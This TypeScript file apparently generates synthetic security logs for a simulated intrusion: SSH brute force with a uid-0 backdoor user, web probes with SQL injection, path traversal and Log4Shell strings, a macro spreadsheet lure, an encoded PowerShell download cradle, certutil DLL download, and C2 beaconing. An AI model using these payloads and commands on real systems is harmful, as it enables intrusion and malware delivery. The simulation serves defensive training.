import { hostFor } from "../company.ts";
import type { SimulatedEvent } from "../event.ts";
import { sshdAccepted, sshdFailed, sshdSession, sudoCommand, suSession, userAdded } from "../formats/linux.ts";
import { BROWSERS } from "../vocabulary.ts";
import { fileCreated } from "../windows-log.ts";
import { atWorkstation, type World } from "../world.ts";
import { ATTACKER, EXCEL, POWERSHELL, SYSTEM32, victim } from "./cast.ts";

export function bruteForce(world: World, startMs: number): SimulatedEvent[] {
  const { random } = world;
  const server = hostFor("supplier", "linux");
  const events: SimulatedEvent[] = [];
  const write = (atMs: number, line: (where: { atMs: number; host: string }) => Buffer) =>
    events.push(world.linux(server, atMs, line({ atMs, host: server.name })));
  let atMs = startMs;
  for (let attempt = 0; attempt < 80; attempt += 1) {
    atMs += random.between(300, 2500);
    const user = random.pick(["root", "root", "edi", "admin"]);
    const remote = { pid: 21_000 + attempt, ip: ATTACKER.scannerIp, port: 40_000 + attempt };
    write(atMs, (where) => sshdFailed(where, { ...remote, user, isKnown: user !== "admin" }));
  }
  const remote = { pid: 21_090, ip: ATTACKER.scannerIp, port: 40_091, user: "edi" };
  write(atMs + 2000, (where) => sshdAccepted(where, { ...remote, key: undefined }));
  write(atMs + 2010, (where) => sshdSession(where, { pid: remote.pid, user: "edi", isOpen: true }));
  write(atMs + 21_000, (where) => sudoCommand(where, { user: "edi", command: "/bin/bash" }));
  write(atMs + 24_000, (where) => suSession(where, { pid: 21_140, user: "edi" }));
  write(atMs + 40_000, (where) => userAdded(where, { pid: 21_155, name: "sysupd", uid: 0 }));
  return events;
}

const PROBES: readonly (readonly [target: string, status: number])[] = [
  ["/", 200],
  ["/download?file=../../../../etc/passwd", 403],
  ["/static/..%2f..%2f..%2fetc%2fshadow", 400],
  ["/products/list?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", 500],
  ["/products/list?id=1%20AND%20SLEEP(5)", 200],
  ["/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.23%3A1389%2Fa%7D", 200],
  [`/search?q=${"$"}{jndi:ldap://198.51.100.23:1389/a}`, 200],
  ["/wp-login.php", 404],
  ["/.git/config", 404],
  ["/.env", 404],
  ["/uploads/c99.php", 404],
  ["/uploads/cmd.jsp?c=whoami", 200],
];

export function scanWebsite(world: World, startMs: number): SimulatedEvent[] {
  const server = hostFor("hq", "web");
  const way = { fromIp: ATTACKER.scannerIp, toIp: server.ip, toPort: 443, isAllowed: true, isOutbound: false };
  const hits = Array.from({ length: 90 }, (_, index) => {
    const [target, status] = PROBES[index % PROBES.length] ?? ["/", 200];
    const userAgent =
      index % 3 === 0 ? "sqlmap/1.8.11#stable (https://sqlmap.org)" : "Mozilla/5.0 (compatible; Nikto/2.5.0)";
    return world.web(server, startMs + index * 700, { clientIp: ATTACKER.scannerIp, target, status, userAgent });
  });
  return [world.firewall(server.unit, startMs, way), ...hits];
}

export function openLure(world: World, startMs: number): SimulatedEvent[] {
  const { lureSite, lureIp } = ATTACKER;
  return [
    world.nameQuery(victim(), startMs, lureSite),
    world.proxy(victim(), startMs + 90, {
      method: "GET",
      url: `http://${lureSite}/2026/11/seikyusho_20261123.xlsm`,
      serverIp: lureIp,
      userAgent: BROWSERS[1],
      bytes: 184_220,
      contentType: "application/vnd.ms-excel.sheet.macroEnabled.12",
    }),
    fileCreated(world, atWorkstation(victim()), startMs + 2000, {
      image: "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
      file: `C:\\Users\\${victim().account}\\Downloads\\seikyusho_20261123.xlsm`,
    }),
    world.process(atWorkstation(victim()), startMs + 9000, {
      image: EXCEL,
      commandLine: `"${EXCEL}" "C:\\Users\\${victim().account}\\Downloads\\seikyusho_20261123.xlsm"`,
      parentImage: "C:\\Windows\\explorer.exe",
    }),
  ];
}

/** UTF-16LE in base64, as PowerShell's -EncodedCommand takes it. The script does nothing but name its download. */
const ENCODED = Buffer.from(
  `$u='http://${ATTACKER.controlSite}/s/stage2.txt';IEX (New-Object Net.WebClient).DownloadString($u)`,
  "utf16le",
).toString("base64");

const DROPPED = "C:\\Users\\Public\\Libraries\\msupd.dll";

export function runMacro(world: World, startMs: number): SimulatedEvent[] {
  const { controlSite } = ATTACKER;
  return [
    world.process(atWorkstation(victim()), startMs, {
      image: POWERSHELL,
      commandLine: `powershell.exe -NoP -W Hidden -Enc ${ENCODED}`,
      parentImage: EXCEL,
      original: "PowerShell.EXE",
    }),
    world.nameQuery(victim(), startMs + 700, controlSite),
    fetchPart(world, startMs + 900, {
      name: "stage2.txt",
      userAgent: "Mozilla/5.0 (Windows NT; Windows NT 10.0; ja-JP) WindowsPowerShell/5.1.22621.4391",
    }),
    ...loadImplant(world, startMs + 8000),
  ];
}

function loadImplant(world: World, startMs: number): SimulatedEvent[] {
  const who = atWorkstation(victim());
  const image = `${SYSTEM32}\\certutil.exe`;
  return [
    world.process(who, startMs, {
      image,
      commandLine: `certutil.exe -urlcache -split -f http://${ATTACKER.controlSite}/s/msupd.dll ${DROPPED}`,
      parentImage: POWERSHELL,
      original: "CertUtil.exe",
    }),
    fetchPart(world, startMs + 400, { name: "msupd.dll", userAgent: "CertUtil URL Agent" }),
    fileCreated(world, who, startMs + 1000, { image, file: DROPPED }),
    world.process(who, startMs + 4000, {
      image: `${SYSTEM32}\\rundll32.exe`,
      commandLine: `rundll32.exe ${DROPPED},Start`,
      parentImage: POWERSHELL,
      original: "RUNDLL32.EXE",
    }),
  ];
}

const fetchPart = (world: World, atMs: number, part: { name: string; userAgent: string }): SimulatedEvent =>
  world.proxy(victim(), atMs, {
    method: "GET",
    url: `http://${ATTACKER.controlSite}/s/${part.name}`,
    serverIp: ATTACKER.controlIp,
    contentType: "application/octet-stream",
    userAgent: part.userAgent,
  });

/** Every minute, give or take a tenth, until the end: a request through the proxy, and now and then a question to DNS. */
export function beacon(world: World, startMs: number, endMs: number): SimulatedEvent[] {
  const { random } = world;
  const { controlSite, controlIp } = ATTACKER;
  const events: SimulatedEvent[] = [];
  for (let atMs = startMs; atMs < endMs; atMs += 60_000 + random.between(-6000, 6000)) {
    const state = Buffer.from(random.hex(220), "hex").toString("base64url");
    events.push(
      world.proxy(victim(), atMs, {
        method: "GET",
        url: `http://${controlSite}/api/v2/sync?s=${state}`,
        serverIp: controlIp,
        userAgent: BROWSERS[0],
        bytes: 312,
        contentType: "application/json",
      }),
    );
    if (random.chance(0.2)) {
      events.push(
        world.nameQuery(victim(), atMs + 400, `${random.letters(52)}.${random.letters(12)}.${controlSite}`, "TXT"),
      );
    }
  }
  return events;
}
